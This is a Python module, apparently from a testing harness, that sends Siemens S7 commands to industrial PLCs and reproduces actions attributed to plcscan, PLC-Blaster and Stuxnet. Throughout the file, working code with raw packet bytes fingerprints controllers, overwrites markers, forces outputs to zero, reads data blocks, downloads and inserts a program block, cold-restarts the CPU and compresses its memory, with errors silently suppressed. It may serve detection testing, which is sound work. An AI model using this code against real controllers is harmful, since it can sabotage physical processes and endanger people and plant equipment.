"""S7 communication: plcscan, PLC-Blaster's and Stuxnet's downloads, outputs set by a library."""

from __future__ import annotations

import contextlib
import struct
import time
from typing import TYPE_CHECKING, Final

from snap7.client import Client

from proving.clients.talk import Talk

if TYPE_CHECKING:
    from collections.abc import Callable

_PORT: Final = 102
_CONNECT: Final = bytes.fromhex("0300001611e00000000100c1020100c2020102c0010a")
_SETUP: Final = bytes.fromhex("0300001902f08032010000000000080000f0000001000101e0")


def _job(number: int, parameter: bytes, data: bytes = b"") -> bytes:
    s7 = struct.pack("!BBHHHH", 0x32, 1, 0, number, len(parameter), len(data)) + parameter + data
    return struct.pack("!BBH", 3, 0, len(s7) + 7) + b"\x02\xf0\x80" + s7


def _jobs(to: str, *jobs: bytes) -> None:
    with Talk(to, _PORT) as talk:
        for octets in (_CONNECT, _SETUP, *jobs):
            talk.say(octets, 0.1)


def _library(to: str, do: Callable[[Client], object]) -> None:
    client = Client()
    with contextlib.suppress(Exception):  # the library's own errors have no common root
        client.connect(to, 0, 2)
        do(client)
    with contextlib.suppress(Exception):
        client.disconnect()


def plcscan(to: str) -> None:
    """Order code, module and protection, as a fingerprint asks for them."""

    def ask(client: Client) -> None:
        for szl in (0x0011, 0x001C, 0x0131, 0x0232):
            with contextlib.suppress(Exception):
                client.read_szl(szl, 1 if szl == 0x0131 else 0)

    _library(to, ask)


def markers_written(to: str) -> None:
    """Markers, then outputs, overwritten."""

    def write(client: Client) -> None:
        for at in range(4):
            with contextlib.suppress(Exception):
                client.mb_write(at, 1, bytearray(b"\xff"))
            with contextlib.suppress(Exception):
                client.ab_write(at, bytearray(b"\x00"))
            time.sleep(0.5)

    _library(to, write)


def blocks_walked(to: str) -> None:
    """One octet of each data block, slowly."""

    def read(client: Client) -> None:
        for block in range(1, 41):
            with contextlib.suppress(Exception):
                client.db_read(block, 0, 1)
            time.sleep(0.3)

    _library(to, read)


def block_downloaded(to: str) -> None:
    """A block asked to be taken, handed over, ended, and put into the program."""
    name = b"_0800001P"
    request = b"\x1a\x00\x01\x00\x00\x00\x00\x00\x09" + name + b"\x0d1" + b"000100" + b"000050"
    insert = b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x0a\x01\x0008001P" + b"\x05_INSE"
    _jobs(to, _job(1, request), _job(2, insert))


def cold_start(to: str) -> None:
    """A cold restart."""
    _jobs(to, _job(1, b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x02C \x09P_PROGRAM"))


def memory_copied(to: str) -> None:
    """The work memory copied over what is loaded, and compressed."""
    modify = b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x02EP\x05_MODU"
    _jobs(to, _job(1, modify), _job(2, b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x00\x05_GARB"))


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "s7-plcscan": plcscan,
    "s7-markers-written": markers_written,
    "s7-blocks-walked": blocks_walked,
    "s7-block-downloaded": block_downloaded,
    "s7-cold-start": cold_start,
    "s7-memory-copied": memory_copied,
}
